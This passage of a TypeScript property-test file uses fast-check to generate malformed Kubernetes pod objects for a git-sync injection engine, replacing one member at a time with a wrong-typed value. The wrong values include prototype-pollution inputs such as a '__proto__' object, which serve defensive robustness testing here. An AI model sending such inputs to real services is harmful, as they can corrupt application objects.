    [{ metadata: { annotations: { 'gitsync.dev/repo': 'https://github.com/org/repo.git' } }, spec: { containers: [{ name: 'app' }] } }],
  ),
);

/** Every path to a member of `doc` (not the root), as lists of keys and indices. */
export function pathsOf(doc: unknown, prefix: (string | number)[] = []): (string | number)[][] {
  if (Array.isArray(doc)) return doc.flatMap((v, i) => [[...prefix, i], ...pathsOf(v, [...prefix, i])]);
  if (typeof doc === 'object' && doc !== null) {
    return Object.entries(doc).flatMap(([k, v]) => [[...prefix, k], ...pathsOf(v, [...prefix, k])]);
  }
  return [];
}

/** `doc` with the member at `path` replaced by `value` (a copy; `doc` is untouched). */
export function replaceAt(doc: unknown, path: readonly (string | number)[], value: unknown): unknown {
  const copy = structuredClone(doc);
  let node = copy as Record<string | number, unknown>;
  for (const key of path.slice(0, -1)) node = node[key] as Record<string | number, unknown>;
  node[path[path.length - 1]!] = value;
  return copy;
}

/** Replacements for a member of a pod: other JSON types, and values that look right but are not. */
const wrongValueArb: fc.Arbitrary<unknown> = fc.oneof(
  fc.jsonValue({ maxDepth: 2 }),
  fc.constantFrom<unknown>(null, '', 0, -1, 1.5, true, [], {}, [null], [1], ['x'], [{}], '1000', '/git', 'Always', JSON.parse('{"toString":1}'), JSON.parse('{"__proto__":{"x":1}}')),
);

/**
 * An opted-in pod (so the engine reads every part of it) with one member,
 * anywhere, replaced by a value of another type: what a client may send to
 * the preview endpoint or the inject command.
 */
export function corruptedCaseArb(options: CaseOptions = {}): fc.Arbitrary<EngineCase> {
  return engineCaseArb({ hostileWeight: 0, ...options }).chain((c) => {
    const paths = pathsOf(c.pod);
    return fc.tuple(fc.nat(paths.length - 1), wrongValueArb).map(([i, value]) => ({ ...c, pod: asJson(replaceAt(c.pod, paths[i]!, value)) }));
  });
}
